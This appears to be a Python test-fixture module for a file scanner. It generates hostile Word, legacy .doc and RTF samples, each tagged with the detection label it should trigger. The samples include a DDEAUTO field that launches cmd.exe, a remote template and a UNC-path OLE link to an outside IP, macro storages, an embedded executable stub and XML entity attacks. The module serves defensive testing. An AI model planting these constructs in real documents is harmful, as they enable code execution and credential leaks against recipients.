"""Hostile Office documents: macros, templates and links from outside, programs inside, XML that turns on its reader."""

import struct

from tests.hostile.archives import zipped
from tests.hostile.kinds import Kind, kind
from tests.hostile.markup import BILLION, EXTERNAL

_SECTOR = 512
_END_OF_CHAIN, _FAT_SECTOR, _FREE = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def relations(*items: tuple[str, str, str]) -> bytes:
    """Relations of (kind, target, mode)."""
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{_RELATIONS}/{sort}" Target="{target}"{mode}/>'
        for number, (sort, target, mode) in enumerate(items)
    )
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    return _HEAD + f'<Relationships xmlns="{namespace}">{rows}</Relationships>'.encode()


def word(body: str = "<w:p/>", main: str = _MAIN, prolog: bytes = _HEAD, **parts: bytes) -> bytes:
    """A document of one paragraph, with further parts whose names have `__` for every slash and `_0` for every dot."""
    types = (
        f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )
    content = {
        "[Content_Types].xml": _HEAD + types.encode(),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": prolog + f"<w:document {_WORDS}><w:body>{body}</w:body></w:document>".encode(),
    }
    content |= {name.replace("__", "/").replace("_0", "."): part for name, part in parts.items()}
    return zipped(content)


def templated() -> bytes:
    template = relations(("attachedTemplate", "http://198.51.100.7/t.dotm", ' TargetMode="External"'))
    settings = _HEAD + f"<w:settings {_WORDS}/>".encode()
    document = relations(("settings", "settings.xml", ""))
    return word(
        word__settings_0xml=settings,
        word___rels__settings_0xml_0rels=template,
        word___rels__document_0xml_0rels=document,
    )


def linked() -> bytes:
    link = relations(("oleObject", "file:///\\\\198.51.100.7\\share\\a.xls", ' TargetMode="External"'))
    return word(word___rels__document_0xml_0rels=link)


def carrying(part: bytes) -> bytes:
    inside = relations(("oleObject", "embeddings/oleObject1.bin", ""))
    return word(word__embeddings__oleObject1_0bin=part, word___rels__document_0xml_0rels=inside)


def macros(*, honest: bool) -> bytes:
    main = "application/vnd.ms-word.document.macroEnabled.main+xml" if honest else _MAIN
    inside = relations(("vbaProject", "vbaProject.bin", ""))
    return word(main=main, word__vbaProject_0bin=old_word(), word___rels__document_0xml_0rels=inside)


def dde() -> bytes:
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\'
        'cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return word(field)


def _entry(name: str, sort: int, child: int, right: int, start: int, size: int) -> bytes:
    written = (name + "\0").encode("utf-16-le")
    head = written.ljust(64, b"\0") + struct.pack("<HBB3L", len(written) if name else 0, sort, 1, _FREE, right, child)
    return head + bytes(36) + struct.pack("<LQ", start, size)


def old_word() -> bytes:
    """A compound file with a document and a storage of macros, as MS-CFB describes it, each stream of eight sectors."""
    stream = bytes(8 * _SECTOR)
    table = [_FAT_SECTOR, 2, _END_OF_CHAIN]
    for first in (3, 11):
        table += [*range(first + 1, first + 8), _END_OF_CHAIN]
    table += [_FREE] * (128 - len(table))
    directory = [
        _entry("Root Entry", 5, 1, _FREE, _END_OF_CHAIN, 0),
        _entry("WordDocument", 2, _FREE, 2, 3, len(stream)),
        _entry("Macros", 1, 3, _FREE, 0, 0),
        _entry("VBA", 1, 4, _FREE, 0, 0),
        _entry("dir", 2, _FREE, _FREE, 11, len(stream)),
        *[_entry("", 0, _FREE, _FREE, 0, 0)] * 3,
    ]
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<5H6s3L", 0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, 1, 1)
    header += struct.pack("<5L", 0, 4_096, _END_OF_CHAIN, 0, _END_OF_CHAIN) + struct.pack("<L", 0)
    header += struct.pack("<110L", *([0] + [_FREE] * 109))[: _SECTOR - len(header)]
    document = struct.pack("<H", 0xA5EC) + stream[2:]
    return header[:_SECTOR] + struct.pack("<128L", *table) + b"".join(directory) + document + b"\x01" + stream[1:]


def rich_text(extra: bytes) -> bytes:
    return rb"{\rtf1\ansi{\object\objemb\objupdate{\*\objclass Package}{\*\objdata 0105" + extra + rb"}}text}"


KINDS: tuple[Kind, ...] = (
    kind("word-macros", "合同.docm", lambda: macros(honest=True), "office-macros"),
    kind("word-macros-denied", "合同.docx", lambda: macros(honest=False), "office-macros"),
    kind("word-outside-template", "合同.docx", templated, "office-outside-template"),
    kind("word-outside-object", "合同.docx", linked, "office-outside-resource"),
    kind("word-dde", "合同.docx", dde, "office-dde"),
    kind("word-program-inside", "合同.docx", lambda: carrying(b"MZ" + bytes(600)), "office-embedded"),
    kind(
        "word-external-entity",
        "合同.docx",
        lambda: word("&x;", prolog=EXTERNAL),
        "xml-external-entity",
        "xml-entity-bomb",
        "file-damaged",
    ),
    kind(
        "word-entity-bomb",
        "合同.docx",
        lambda: word("&z;", prolog=BILLION),
        "xml-external-entity",
        "xml-entity-bomb",
        "file-damaged",
    ),
    kind("word-type-lie", "合同.docx", lambda: word(main="image/png"), "office-part-untyped", "extension-mismatch"),
    kind("old-word-macros", "合同.doc", old_word, "office-macros"),
    kind("rtf-object", "合同.rtf", lambda: rich_text(b"4d5a" * 400), "office-object-runs"),
)
